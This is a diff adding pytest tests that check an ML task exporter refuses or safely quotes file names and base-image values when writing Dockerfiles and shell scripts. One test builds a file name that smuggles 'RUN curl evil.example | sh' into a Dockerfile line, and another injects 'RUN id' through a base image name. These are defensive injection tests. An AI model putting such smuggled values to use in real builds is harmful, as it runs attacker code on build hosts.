@@ -264,3 +264,49 @@ def test_a_task_without_demonstration_or_recorded_baseline_gets_one_measured_and
     assert f"The starter scores {baseline['value']:.6g} (mae)" in (folder / "instruction.md").read_text()
     dockerfile = (folder / "environment" / "Dockerfile").read_text()
     assert "chmod 0444 /workspace/test.csv /workspace/train.csv" in dockerfile  # the read-only files
+
+
+# --- names written into the Dockerfile and the scripts (issue 25) ------------------------------
+
+def _task_with_read_only(patterns):
+    from types import SimpleNamespace
+
+    return SimpleNamespace(view=SimpleNamespace(read_only=list(patterns)))
+
+
+def test_a_read_only_file_named_with_a_newline_is_refused_not_injected(tmp_path):
+    from mlab.export.harbor_files import ExportError, agent_dockerfile
+
+    (tmp_path / "notes\nRUN curl evil.example | sh\n#.txt").write_text("x")
+    with pytest.raises(ExportError) as caught:
+        agent_dockerfile(_task_with_read_only(["*.txt"]), "python:3.11-slim", tmp_path)
+    assert str(caught.value) == (
+        "the read-only file '/workspace/notes\\nRUN curl evil.example | sh\\n#.txt' holds the control character '\\n' "
+        "(a newline, NUL or another): it cannot be written into a Dockerfile or shell script, rename it")
+
+
+def test_read_only_names_are_quoted_as_one_shell_word(tmp_path):
+    from mlab.export.harbor_files import agent_dockerfile
+
+    (tmp_path / "it's $(here) `x`.txt").write_text("x")
+    dockerfile = agent_dockerfile(_task_with_read_only(["*.txt"]), "python:3.11-slim", tmp_path)
+    run = [line for line in dockerfile.splitlines() if line.startswith("RUN chown agent")][0]
+    assert run.endswith("&& chmod 0444 '/workspace/it'\"'\"'s $(here) `x`.txt'")
+    assert len(dockerfile.splitlines()) == 8
+
+
+@pytest.mark.parametrize("name", ["tab\there.py", "nul\x00.py", "esc\x1b[2J.py", "cr\r.py"])
+def test_control_characters_cannot_be_quoted_into_a_script(name):
+    from mlab.export.harbor_files import ExportError, shell_word
+
+    with pytest.raises(ExportError, match="cannot be written into a Dockerfile or shell script"):
+        shell_word(name, "the demonstration script")
+
+
+def test_a_base_image_with_a_newline_is_refused(tmp_path):
+    from mlab.export.harbor_files import ExportError, agent_dockerfile, verifier_dockerfile
+
+    for write in (lambda base: agent_dockerfile(_task_with_read_only([]), base, tmp_path),
+                  lambda base: verifier_dockerfile(base, "mlab.whl")):
+        with pytest.raises(ExportError, match="the base image 'python\\\\nRUN id' cannot be written"):
+            write("python\nRUN id")
